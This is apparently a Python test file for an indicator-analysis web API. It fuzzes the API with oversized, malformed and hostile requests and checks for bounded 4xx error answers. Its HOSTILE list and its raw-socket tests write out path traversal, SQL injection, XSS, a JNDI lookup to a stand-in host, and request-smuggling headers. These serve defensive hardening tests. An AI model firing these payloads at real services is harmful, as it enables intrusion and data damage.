"""Hostile input, by hand: every answer is a 4xx in exactly the {"error", "detail"} shape, and the
service is still healthy afterwards (/healthz and a normal analysis).

Covers oversized, deeply nested, non-UTF-8, lone-surrogate and NUL-laden bodies, wrong types for
every field, path traversal and injection-looking ids, plugin names and keys, wrong methods (405
with Allow), unknown routes, and the same through a real waitress server on loopback (chunked bodies,
bytes that are not a valid request). The PostgreSQL cases are integration tests (pg_url).
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
import urllib.parse
from collections.abc import Iterator
from typing import Any

import pytest

from api import openapi
from api import server as api_server
from shared import accounts, audit
from shared.cli import WAITRESS_HARD_CAP_BYTES
from tests.conftest import Service

TEXT_ACTIONS = ["/api/actions/defang", "/api/actions/refang", "/api/actions/extract"]
POSTS = ["/api/v1/analysis", *TEXT_ACTIONS]
HOSTILE = [
    "../../etc/passwd",
    "..",
    "%2e%2e",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "' OR 1=1 --",
    "1; DROP TABLE analysis; --",
    '"; DELETE FROM plugin_result WHERE "1"="1',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\x00",
    "a\x00b",
    "x" * 5000,
    "☃💥",
]


def assert_error(answer: Any, status: int, code: str | None = None) -> None:
    """The answer is ``status`` with exactly {"error": code, "detail": text} as JSON."""
    assert answer.status_code == status, (answer.status_code, answer.text[:300])
    assert 400 <= status < 500
    assert answer.headers["content-type"].startswith("application/json")
    body = answer.json
    assert set(body) == {"error", "detail"}, body
    assert isinstance(body["error"], str) and isinstance(body["detail"], str)
    assert openapi.ERROR_CODES[body["error"]] == status, body
    if code is not None:
        assert body["error"] == code, body
    assert len(body["detail"]) < 400, "the detail echoes unbounded input"


def assert_healthy(service: Service) -> None:
    assert service.client.simulate_get("/healthz").json == {"status": "ok"}
    answer = service.post("/api/v1/analysis", {"ioc": "8.8.4[.]4", "type": "ip"})
    assert answer.status_code == 200, answer.json
    assert answer.json["ioc"] == "8.8.4.4" and set(answer.json["results"]) == {"virustotal", "abuseipdb"}
    assert service.get(f"/api/v1/analysis/{answer.json['id']}").status_code == 200


def post_raw(service: Service, path: str, body: bytes | str, content_type: str = "application/json") -> Any:
    headers = {**service.auth, "Content-Type": content_type} if content_type else service.auth
    return service.client.simulate_post(path, body=body, headers=headers)


# --- Oversized bodies -------------------------------------------------------------------------------


@pytest.mark.parametrize("path", POSTS)
def test_oversized_bodies_are_413(make_service: Any, path: str) -> None:
    service = make_service(SOCBUDDY_MAX_BODY_BYTES="4096")
    field = "ioc" if path == "/api/v1/analysis" else "text"
    over = json.dumps({field: "a" * 4096, "type": "ip"})
    assert_error(post_raw(service, path, over), 413, "payload_too_large")
    # A Content-Length that claims more than the limit is refused before the body is read.
    lie = service.client.simulate_post(
        path,
        body="{}",
        headers={**service.auth, "Content-Type": "application/json", "Content-Length": "999999999"},
    )
    assert_error(lie, 413, "payload_too_large")
    # The limit counts raw bytes: 1366 snowmen are 4098 bytes of UTF-8 but far fewer characters.
    assert_error(post_raw(service, path, json.dumps({field: "☃" * 1366}, ensure_ascii=False)), 413)
    at_limit = json.dumps({field: "1", "type": "ip", "pad": "x" * 4000})
    assert len(at_limit) <= 4096
    assert post_raw(service, path, at_limit).status_code != 413
    assert_healthy(service)


def test_default_limit_is_one_mebibyte(service: Service) -> None:
    body = json.dumps({"text": "a" * (1024 * 1024)})
    assert_error(post_raw(service, "/api/actions/defang", body), 413, "payload_too_large")
    assert "1048576" in post_raw(service, "/api/actions/defang", body).json["detail"]
    assert_healthy(service)


# --- Malformed JSON ---------------------------------------------------------------------------------

DEEP = 100_000


@pytest.mark.parametrize("path", POSTS)
@pytest.mark.parametrize(
    "body",
    [
        "[" * DEEP + "]" * DEEP,
        "{" + '"a":{' * DEEP + "}" * DEEP + "}",
        '{"text": ' + "[" * DEEP + "]" * DEEP + ', "ioc": "1.1.1.1", "type": "ip"}',
        '{"ioc": ' + '{"a":' * 20_000 + "1" + "}" * 20_000 + ', "type": "ip", "text": 1}',
        '{"text": "unterminated',
        '{"text": "a",}',
        "",
        "   ",
        "\ufeff{}",
        '{"ioc": "1.1.1.1", "type": "ip", "max_age": 1' + "0" * 5000 + "}",
    ],
    ids=[
        "deep-array",
        "deep-object",
        "deep-field",
        "deep-ioc",
        "unterminated",
        "trailing-comma",
        "empty",
        "blank",
        "bom",
        "huge-int",
    ],
)
def test_deeply_nested_and_malformed_json_is_400(service: Service, path: str, body: str) -> None:
    assert_error(post_raw(service, path, body), 400, "invalid_request")
    assert_healthy(service)


@pytest.mark.parametrize("path", POSTS)
@pytest.mark.parametrize(
    "body",
    [
        b'{"text": "caf\xe9", "ioc": "caf\xe9.example", "type": "domain"}',  # Latin-1
        '{"text": "x", "ioc": "1.1.1.1", "type": "ip"}'.encode("utf-16"),
        '{"text": "x", "ioc": "1.1.1.1", "type": "ip"}'.encode("utf-32"),
        b'{"text": "\xc0\xaf", "ioc": "\xc0\xae\xc0\xae", "type": "domain"}',  # overlong encodings
        b'{"text": "\xed\xa0\x80", "ioc": "\xed\xa0\x80", "type": "url"}',  # an encoded surrogate (CESU-8)
        b"\xff\xfe\xfd",
    ],
    ids=["latin1", "utf16", "utf32", "overlong", "cesu8", "garbage"],
)
def test_non_utf8_bodies_are_400(service: Service, path: str, body: bytes) -> None:
    answer = post_raw(service, path, body)
    assert_error(answer, 400, "invalid_request")
    assert "UTF-8" in answer.json["detail"]
    assert_healthy(service)


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/actions/defang", '{"text": "\\ud800"}'),
        ("/api/actions/refang", '{"text": "evil[.]com \\udfff"}'),
        ("/api/actions/extract", '{"text": "\\ud83d http://evil.com/\\ud800"}'),
        ("/api/v1/analysis", '{"ioc": "http://evil.com/\\ud800", "type": "url"}'),
        ("/api/v1/analysis", '{"ioc": "1.1.1.1", "type": "ip", "plugins": ["\\udc00"]}'),
    ],
    ids=["defang", "refang", "extract", "analysis-url", "analysis-plugins"],
)
def test_lone_surrogate_escapes_are_400(service: Service, path: str, body: str) -> None:
    """JSON may spell a lone surrogate (\\ud800); it is not Unicode text and cannot be answered as UTF-8."""
    answer = post_raw(service, path, body)
    assert 400 <= answer.status_code < 500, f"{answer.status_code} {answer.text[:200]!r}"
    assert_error(answer, answer.status_code)
    assert_healthy(service)


# --- NUL bytes --------------------------------------------------------------------------------------


def test_nul_bytes_in_text_are_plain_characters(service: Service) -> None:
    text = "seen\x00 http://evil.com/a\x00b and x\x00@evil.com\x00"
    defanged = service.post("/api/actions/defang", {"text": text})
    assert defanged.status_code == 200
    assert defanged.json["result"] == "seen\x00 hxxp[://]evil[.]com/a\x00b and x\x00[@]evil[.]com\x00"
    assert service.post("/api/actions/refang", {"text": defanged.json["result"]}).json["result"] == text
    extracted = service.post("/api/actions/extract", {"text": text})
    assert extracted.status_code == 200
    assert "evil.com" in extracted.json["indicators"]["domain"]
    assert_healthy(service)


def test_extract_never_returns_a_value_with_a_nul(service: Service) -> None:
    """Extracted values are valid indicators, and a NUL is part of none (see the next test)."""
    extracted = service.post("/api/actions/extract", {"text": "x http://evil.com/a\x00b y\x00@evil.com"})
    assert extracted.status_code == 200
    values = [v for vs in extracted.json["indicators"].values() for v in vs]
    assert "evil.com" in values
    assert not any("\x00" in v for v in values), values


@pytest.mark.parametrize(
    ("ioc", "ioc_type"),
    [
        ("1.1.1.1\x00", "ip"),
        ("\x001.1.1.1", "ip"),
        ("evil\x00.com", "domain"),
        ("evil.com\x00", "domain"),
        ("http://evil.com/\x00x", "url"),
        ("http://evil\x00.com/", "url"),
        ("a" * 31 + "\x00" + "a" * 32, "hash"),
        ("a\x00b@evil.com", "email"),
        ("ab@evil.com\x00", "email"),
    ],
)
def test_nul_bytes_in_an_ioc_are_invalid(service: Service, ioc: str, ioc_type: str) -> None:
    """A NUL is no part of any indicator: the answer is 400 invalid_request, whatever the plugins."""
    answer = service.post("/api/v1/analysis", {"ioc": ioc, "type": ioc_type, "plugins": ["virustotal"]})
    assert_error(answer, 400, "invalid_request")
    assert_healthy(service)


# --- Wrong types ------------------------------------------------------------------------------------

WRONG = [5, 1.5, True, [], ["1.1.1.1"], {}, {"a": 1}]
VALID = {"ioc": "1.1.1.1", "type": "ip"}


@pytest.mark.parametrize("value", [*WRONG, None], ids=repr)
@pytest.mark.parametrize("field", ["ioc", "type"])
def test_wrong_types_for_ioc_and_type_are_invalid_request(service: Service, field: str, value: Any) -> None:
    assert_error(service.post("/api/v1/analysis", {**VALID, field: value}), 400, "invalid_request")


@pytest.mark.parametrize(
    "value", ["virustotal", 5, True, {"virustotal": 1}, [1], [None], [["virustotal"]], [{}]], ids=repr
)
def test_wrong_types_for_plugins_are_invalid_request(service: Service, value: Any) -> None:
    answer = service.post("/api/v1/analysis", {**VALID, "plugins": value})
    assert_error(answer, 400, "invalid_request")
    assert "plugins" in answer.json["detail"]


@pytest.mark.parametrize(
    "raw", ['"5"', "true", "-1", "[]", "{}", "1e10", "NaN", "Infinity", "-Infinity", "-0.5"]
)
def test_wrong_types_and_ranges_for_max_age_are_invalid_request(service: Service, raw: str) -> None:
    body = '{"ioc": "1.1.1.1", "type": "ip", "max_age": ' + raw + "}"
    answer = post_raw(service, "/api/v1/analysis", body)
    assert_error(answer, 400, "invalid_request")
    # NaN and Infinity are no JSON (Python's json reads them): the body is malformed before max_age.
    expected = "not valid JSON" if raw in ("NaN", "Infinity", "-Infinity") else "max_age"
    assert expected in answer.json["detail"]


@pytest.mark.parametrize("path", TEXT_ACTIONS)
@pytest.mark.parametrize("value", [*WRONG, None], ids=repr)
def test_wrong_types_for_text_are_invalid_request(service: Service, path: str, value: Any) -> None:
    assert_error(service.post(path, {"text": value}), 400, "invalid_request")


@pytest.mark.parametrize("path", POSTS)
@pytest.mark.parametrize("body", ["[]", '["text"]', '"text"', "5", "null", "true"])
def test_bodies_that_are_not_objects_are_invalid_request(service: Service, path: str, body: str) -> None:
    assert_error(post_raw(service, path, body), 400, "invalid_request")


@pytest.mark.parametrize("path", POSTS)
@pytest.mark.parametrize(
    "content_type",
    [
        "",
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/xml",
    ],
)
def test_other_content_types_are_invalid_request(service: Service, path: str, content_type: str) -> None:
    answer = post_raw(service, path, json.dumps({"text": "a", **VALID}), content_type)
    assert_error(answer, 400, "invalid_request")


def test_unknown_type_is_invalid_ioc_type_and_its_echo_is_bounded(service: Service) -> None:
    answer = service.post("/api/v1/analysis", {"ioc": "1.1.1.1", "type": "ip' OR '1'='1" + "x" * 10_000})
    assert_error(answer, 400, "invalid_ioc_type")
    assert "x" * 100 not in answer.json["detail"]


# --- Injection-looking ids, plugin names and indicators ----------------------------------------------


def test_hostile_ids_and_plugin_names_are_404(service: Service) -> None:
    created = service.post("/api/v1/analysis", {"ioc": "hxxp://malicious[.]example/x", "type": "url"})
    assert created.status_code == 200
    real = created.json["id"]
    for hostile in HOSTILE:
        quoted = urllib.parse.quote(hostile, safe="")
        for path in [
            f"/api/v1/analysis/{quoted}",
            f"/api/v1/analysis/{quoted}/pending/joe_sandbox",
            f"/api/v1/analysis/{real}/pending/{quoted}",
            f"/api/v1/analysis/{quoted}/pending/{quoted}",
        ]:
            assert_error(service.get(path), 404, "not_found")
    # Unquoted traversal in the path is a route that does not exist.
    for path in ["/api/v1/analysis/../../etc/passwd", f"/api/v1/analysis/{real}/pending/../../x"]:
        assert_error(service.get(path), 404, "not_found")
    # The analysis and its tables are intact.
    again = service.get(f"/api/v1/analysis/{real}")
    assert again.status_code == 200 and again.json["id"] == real
    assert_healthy(service)


def test_hostile_plugin_names_in_a_request_are_skipped(service: Service) -> None:
    names = [h for h in HOSTILE if "\x00" not in h]
    only = service.post("/api/v1/analysis", {"ioc": "8.8.8.8", "type": "ip", "plugins": names})
    assert_error(only, 400, "no_plugins_available")
    mixed = service.post(
        "/api/v1/analysis", {"ioc": "8.8.8.8", "type": "ip", "plugins": ["virustotal", *names]}
    )
    assert mixed.status_code == 200 and set(mixed.json["results"]) == {"virustotal"}
    assert_healthy(service)


@pytest.mark.parametrize("ioc_type", ["ip", "domain", "url", "hash", "email"])
def test_hostile_strings_are_not_indicators(service: Service, ioc_type: str) -> None:
    for hostile in HOSTILE:
        answer = service.post("/api/v1/analysis", {"ioc": hostile, "type": ioc_type})
        assert_error(answer, 400, "invalid_request")
    assert_healthy(service)


@pytest.mark.parametrize(
    "header",
    [
        "Bearer ' OR 1=1 --",
        "Bearer sb_' OR '1'='1' --aaaaaaaaaaaaaaaaa",
        "Bearer <script>alert(1)</script>",
        "Bearer ../../etc/passwd",
        "Bearer " + "a" * 10_000,
        "Bearer sb_" + "a" * 32,
        "Bearer sb_" + "é" * 32,
        "Basic dXNlcjpwYXNz",
        "Bearer",
        "",
    ],
    ids=lambda h: h[:24],
)
def test_hostile_keys_are_401(service: Service, header: str) -> None:
    answer = service.client.simulate_get("/api/v1/plugins", headers={"Authorization": header})
    assert_error(answer, 401, "invalid_api_key")


# --- Methods and routes -----------------------------------------------------------------------------

DOCUMENTED = {
    path: {m.upper() for m in item if m in ("get", "post", "put", "patch", "delete")}
    for path, item in openapi.document()["paths"].items()
}


def _concrete(template: str) -> str:
    return template.replace("{id}", "00000000-0000-4000-8000-000000000000").replace("{plugin}", "virustotal")


@pytest.mark.parametrize("template", sorted(DOCUMENTED))
def test_wrong_methods_are_405_with_allow(service: Service, template: str) -> None:
    allowed = DOCUMENTED[template]
    for method in sorted({"GET", "POST", "PUT", "PATCH", "DELETE", "TRACE"} - allowed):
        answer = service.client.simulate_request(method, _concrete(template), headers=service.auth, json={})
        assert_error(answer, 405, "method_not_allowed")
        assert method in answer.json["detail"]
        allow = {m.strip() for m in answer.headers["allow"].split(",")}
        expected = allowed | ({"HEAD"} if "GET" in allowed else set())
        assert expected <= allow <= expected | {"OPTIONS"}, allow
    head = service.client.simulate_request("HEAD", _concrete(template), headers=service.auth)
    if "GET" in allowed:  # RFC 9110: HEAD wherever GET, with GET's status and headers, no body
        get = service.client.simulate_get(_concrete(template), headers=service.auth)
        assert head.status_code == get.status_code and head.content == b""
        assert head.headers["content-type"] == get.headers["content-type"]
        assert head.headers["content-length"] == str(len(get.content))
    else:
        assert head.status_code == 405 and "allow" in head.headers
    assert_healthy(service)


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/api",
        "/api/v2/analysis",
        "/api/v1/analysis/x/y/z",
        "/api/v1/plugins/health/x",
        "/api/actions/exec",
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/api/v1/analysis/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/admin",
        "/.env",
        "/api/v1/openapi.yaml",
    ],
)
def test_unknown_routes_are_404(service: Service, path: str) -> None:
    for headers in (service.auth, {}):
        answer = service.client.simulate_get(path, headers=headers)
        assert_error(answer, 404, "not_found")


# --- Through a real waitress server on loopback -------------------------------------------------------


@pytest.fixture
def served(service: Service) -> Iterator[tuple[Service, int]]:
    """Serve the app under waitress as ``socbuddy web`` does (same body cap) on a free loopback port."""
    cap = max(WAITRESS_HARD_CAP_BYTES, service.settings.max_body_bytes * 4)
    server = api_server.create_server(
        service.client.app, host="127.0.0.1", port=0, threads=4, max_request_body_size=cap
    )
    with _running(server):
        yield service, server.effective_port


@contextlib.contextmanager
def _running(server: Any) -> Iterator[None]:
    """Run a waitress server on a thread, and close it afterwards."""

    def run() -> None:
        # Closing pulls the sockets from under the serving loop: select() may then fail with EBADF.
        with contextlib.suppress(OSError):
            server.run()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    try:
        yield
    finally:
        server.close()
        thread.join(5)


def _raw(port: int, data: bytes) -> tuple[int, dict[str, str], bytes]:
    """Send raw bytes; return the status, headers and body of the answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        try:
            sock.sendall(data)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server may answer and close before it has read everything
        answer = b""
        try:
            while chunk := sock.recv(65536):
                answer += chunk
        except ConnectionResetError:
            pass
    head, _, body = answer.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = dict(line.lower().split(": ", 1) for line in lines[1:] if ": " in line)
    return int(lines[0].split()[1]), headers, body


def _chunked(body: bytes, size: int = 65536) -> bytes:
    parts = [
        b"%x\r\n%s\r\n" % (len(body[i : i + size]), body[i : i + size]) for i in range(0, len(body), size)
    ]
    return b"".join(parts) + b"0\r\n\r\n"


def test_through_waitress(served: tuple[Service, int]) -> None:
    service, port = served
    key = service.key.encode()
    auth = b"Authorization: Bearer " + key + b"\r\n"

    def request(start: bytes, extra: bytes = b"", body: bytes = b"") -> tuple[int, dict[str, str], bytes]:
        return _raw(port, start + b"\r\nHost: t\r\nConnection: close\r\n" + extra + b"\r\n" + body)

    def shaped(result: tuple[int, dict[str, str], bytes], status: int, code: str) -> None:
        got, headers, body = result
        assert got == status, (got, body[:200])
        assert headers["content-type"].startswith("application/json")
        assert json.loads(body)["error"] == code and set(json.loads(body)) == {"error", "detail"}

    # A chunked body (no Content-Length) over the app's limit: the app's own 413, in shape.
    big = b'{"text": "' + b"a" * 3_000_000 + b'"}'
    shaped(
        request(
            b"POST /api/actions/defang HTTP/1.1",
            auth + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n",
            _chunked(big),
        ),
        413,
        "payload_too_large",
    )
    # A chunked body under the limit is read whole.
    small = json.dumps({"text": "http://evil.com/"}).encode()
    status, _, body = request(
        b"POST /api/actions/defang HTTP/1.1",
        auth + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n",
        _chunked(small, 7),
    )
    assert status == 200 and json.loads(body) == {"result": "hxxp[://]evil[.]com/"}
    # A method Falcon does not know: 400 in shape.
    shaped(request(b"FOO /api/v1/analysis HTTP/1.1", auth), 400, "invalid_request")
    shaped(request(b"DELETE /api/v1/analysis HTTP/1.1", auth), 405, "method_not_allowed")
    shaped(request(b"GET /../../etc/passwd HTTP/1.1"), 404, "not_found")
    shaped(request(b"GET /api/v1/analysis/%ff%fe%00 HTTP/1.1", auth), 404, "not_found")
    # What waitress refuses before the app sees it: 4xx in the same shape, never 5xx.
    for start, extra, sent in [
        (b"GET /api/v1/analysis/\xff\xfe HTTP/1.1", auth, b""),
        (b"GET /api/v1/plugins HTTP/1.1", b"Authorization: Bearer sb_\x00\xff\r\n", b""),
        (b"\x00\x01\x02 garbage", b"", b""),
        (
            b"POST /api/actions/defang HTTP/1.1",
            auth + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
            b"0\r\n\r\n",
        ),
        (b"POST /api/actions/defang HTTP/1.1", auth + b"Content-Length: -1\r\n", b""),
        (b"POST /api/actions/defang HTTP/1.1", auth + b"Content-Length: 1\r\nContent-Length: 2\r\n", b"ab"),
    ]:
        status, headers, body = request(start, extra, sent)
        assert 400 <= status < 500, (start, status, body[:200])
        shaped((status, headers, body), status, "invalid_request")
    # A declared body over waitress's own cap: refused from the headers, 413 in shape, naming the
    # limit a client can act on.
    refused = request(
        b"POST /api/actions/defang HTTP/1.1",
        auth + b"Content-Length: %d\r\n" % (WAITRESS_HARD_CAP_BYTES * 8),
    )
    shaped(refused, 413, "payload_too_large")
    assert (
        json.loads(refused[2])["detail"] == "the request body is larger than SOCBUDDY_MAX_BODY_BYTES allows"
    )
    # A header section over waitress's limit (431) and a transfer coding it does not implement (501).
    shaped(
        request(b"GET /api/v1/plugins HTTP/1.1", auth + b"X-Big: " + b"a" * 300_000 + b"\r\n"),
        431,
        "invalid_request",
    )
    shaped(
        request(
            b"POST /api/actions/defang HTTP/1.1", auth + b"Transfer-Encoding: gzip, chunked\r\n", b"0\r\n\r\n"
        ),
        501,
        "invalid_request",
    )
    # Still healthy.
    assert request(b"GET /healthz HTTP/1.1")[0] == 200
    status, _, body = request(
        b"POST /api/v1/analysis HTTP/1.1",
        auth
        + b"Content-Type: application/json\r\nContent-Length: %d\r\n"
        % len(b'{"ioc": "8.8.4.4", "type": "ip"}'),
        b'{"ioc": "8.8.4.4", "type": "ip"}',
    )
    assert status == 200 and set(json.loads(body)["results"]) == {"virustotal", "abuseipdb"}


def test_requests_waitress_refuses_are_audited(served: tuple[Service, int]) -> None:
    """API.md: every request to an authenticated endpoint is audited, refused ones included, also
    those waitress answers before the app reads them (here: a body over its cap, a transfer coding it
    does not implement)."""
    service, port = served
    auth = b"Authorization: Bearer " + service.key.encode() + b"\r\n"

    def request(start: bytes, extra: bytes) -> int:
        return _raw(port, start + b"\r\nHost: t\r\nConnection: close\r\n" + extra + b"\r\n")[0]

    too_big = b"Content-Length: %d\r\n" % (WAITRESS_HARD_CAP_BYTES * 8)
    assert request(b"POST /api/actions/defang?x=1 HTTP/1.1", auth + too_big) == 413
    assert request(b"POST /api/v1/analysis HTTP/1.1", b"Authorization: Bearer sb_nope\r\n" + too_big) == 413
    assert request(b"POST /api/actions/extract HTTP/1.1", auth + b"Transfer-Encoding: gzip\r\n") == 501
    assert request(b"POST /healthz HTTP/1.1", too_big) == 413  # not an authenticated endpoint
    with service.workers.runtime.db.connection_context():
        events = audit.query(limit=10)
    assert [(e["method"], e["route"], e["status"], e["account"]) for e in reversed(events)] == [
        ("POST", "/api/actions/defang", 413, "tester"),
        ("POST", "/api/v1/analysis", 413, None),
        ("POST", "/api/actions/extract", 501, "tester"),
    ]
    assert events[-1]["key_prefix"] == accounts.display_prefix(service.key)
    assert "sb_nope" not in str(events)
    # The refused requests never reached their responders, and the service still answers.
    assert service.get("/api/v1/plugins").status_code == 200


@pytest.mark.parametrize("path", ["/readyz", "/healthz", "/api/v1/openapi.json"])
def test_a_refused_request_to_a_public_endpoint_never_runs_its_responder(service: Service, path: str) -> None:
    # As waitress's error task calls the app for a refused request (api/server.py): the answer is the
    # refusal; /readyz would otherwise ping the database and the broker for every refused request.
    answer = service.client.simulate_post(
        path, extras={api_server.REFUSED_ENV: (413, "payload_too_large", "too big")}
    )
    assert answer.status_code == 413 and answer.json == {"error": "payload_too_large", "detail": "too big"}


# --- PostgreSQL: NULs cannot be stored ---------------------------------------------------------------


@pytest.mark.integration
def test_nul_bytes_on_postgresql_are_4xx_and_audited(make_service: Any, pg_url: str) -> None:
    """PostgreSQL text cannot hold NUL: an ioc, id or plugin name with one must still be a 4xx, not 500/503."""
    service = make_service(DATABASE_URL=pg_url)
    for body in [
        {"ioc": "http://evil.com/\x00x", "type": "url", "plugins": ["virustotal"]},
        {"ioc": "a\x00b@evil.com", "type": "email"},
        {"ioc": "evil\x00.com", "type": "domain"},
        {"ioc": "1.1.1.1", "type": "ip", "plugins": ["\x00"]},
        {"ioc": "1.1.1.1", "type": "i\x00p"},
    ]:
        answer = service.post("/api/v1/analysis", body)
        assert 400 <= answer.status_code < 500, (body, answer.status_code, answer.json)
        assert_error(answer, answer.status_code)
    for path in [
        "/api/v1/analysis/%00",
        "/api/v1/analysis/00000000-0000-4000-8000-000000000000/pending/a%00b",
    ]:
        assert_error(service.get(path), 404, "not_found")
    assert_healthy(service)


def test_a_waitress_failure_of_its_own_is_internal_error_without_its_text() -> None:
    body = api_server.error_body(500, "Internal Server Error", 'Traceback: File "app.py", key=sb_secret')
    assert json.loads(body) == {
        "error": "internal_error",
        "detail": "the server failed while reading the request",
    }


def test_every_listening_socket_answers_waitress_refusals_in_shape(service: Service) -> None:
    server = api_server.create_server(service.client.app, listen="127.0.0.1:0 127.0.0.1:0", threads=2)
    ports = [int(listen[1]) for listen in server.effective_listen]
    with _running(server):
        for port in ports:
            status, headers, body = _raw(port, b"\x00\x01 garbage\r\n\r\n")
            assert status == 400 and headers["content-type"] == "application/json"
            assert json.loads(body)["error"] == "invalid_request"
    assert len(set(ports)) == 2
